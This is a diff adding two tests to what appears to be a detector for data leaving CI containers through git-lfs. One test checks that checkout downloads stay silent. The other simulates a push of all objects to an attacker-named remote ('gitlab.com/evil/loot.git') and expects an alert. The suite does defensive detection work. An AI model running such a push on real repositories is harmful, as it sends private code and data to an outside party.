@@ -69,4 +69,29 @@ describe('git lfs downloads', () => {
       expect((await runResolved(s.events, { resolveHost })).alerts).toEqual([]);
     },
   );
+
+  // A checkout that is no download of its own (`git checkout`, `git switch`, `git reset --hard`) has git's
+  // smudge filter, `git-lfs filter-process`, fetch each large file it writes: the same requests.
+  it('the smudge filter of a `git checkout` fetching 4,000 objects from gitlab.com raises no alert', async () => {
+    const s = new Scenario();
+    const c = s.container({ namespace: 'ci', pod: 'runner-train-0' });
+    const sh = s.init(c, '/bin/bash', '-c /scripts/step_script');
+    const git = s.exec(c, '/usr/bin/git', 'checkout -f release/2.4', { parent: sh });
+    const lfs = s.exec(c, '/usr/bin/git-lfs', 'filter-process', { parent: git });
+    s.connect(lfs, GITLAB_IP, 443, { cookie: 'l' });
+    for (let i = 0; i < 4000; i++) s.wait(20).send(lfs, GITLAB_IP, 443, 300, { cookie: 'l' });
+    s.wait(10).exit(lfs).exit(git);
+    expect((await runResolved(s.events, { resolveHost })).alerts).toEqual([]);
+  });
+
+  it('`git-lfs push` run by itself is a push', async () => {
+    const s = new Scenario();
+    const c = s.container({ namespace: 'ci', pod: 'runner-train-0' });
+    const sh = s.init(c, '/bin/bash', '-c /tmp/x.sh');
+    const lfs = s.exec(c, '/usr/bin/git-lfs', 'push --all https://gitlab.com/evil/loot.git', { parent: sh });
+    s.connect(lfs, GITLAB_IP, 443, { cookie: 'l' }).send(lfs, GITLAB_IP, 443, 2 * MiB, { cookie: 'l' });
+    s.wait(10).exit(lfs);
+    const { alerts } = await runResolved(s.events, { resolveHost });
+    expect(alerts.map((a) => [a.push.tool, a.push.destination])).toEqual([['git', 'gitlab.com']]);
+  });
 });
